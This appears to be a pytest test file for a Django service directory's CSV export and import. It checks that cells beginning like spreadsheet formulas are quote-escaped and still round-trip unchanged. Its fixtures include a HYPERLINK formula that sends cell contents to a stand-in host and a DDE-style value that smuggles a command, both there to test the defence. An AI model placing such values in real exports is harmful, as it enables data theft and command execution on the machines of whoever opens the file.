"""The service directory's CSV never holds a cell a spreadsheet would run, and still imports back
to the same directory."""

from __future__ import annotations

import csv
import io

import pytest

from tanu.accounts.tests.personas import Personas
from tanu.referrals.directory import export_services_csv, import_services_csv
from tanu.referrals.models import Service
from tanu.referrals.tests.directory_helpers import ServiceFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/?d="&A1,"Shelter")'


def test_exported_cells_that_start_like_a_formula_are_quoted_and_import_back_unchanged(
    personas: Personas,
) -> None:
    ServiceFactory(
        name_en=FORMULA,
        address="@SUM(1+1)*cmd|' /C calc'!A0",
        phone="+7 701 000 0000",
        hours="-2+3",
        capacity=5,
    )
    exported = export_services_csv(Service.objects.all())
    header, line = list(csv.reader(io.StringIO(exported)))
    cells = dict(zip(header, line, strict=True))
    assert cells["name_en"] == "'" + FORMULA
    assert cells["address"].startswith("'@")
    assert cells["phone"] == "'+7 701 000 0000"
    assert cells["hours"] == "'-2+3"
    assert cells["capacity"] == "5"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)

    Service.objects.all().delete()
    result = import_services_csv(exported, actor=personas.admin)
    assert result.ok and result.created == 1
    service = Service.objects.get()
    assert (service.name_en, service.phone, service.hours) == (FORMULA, "+7 701 000 0000", "-2+3")
    assert service.address == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert export_services_csv(Service.objects.all()) == exported
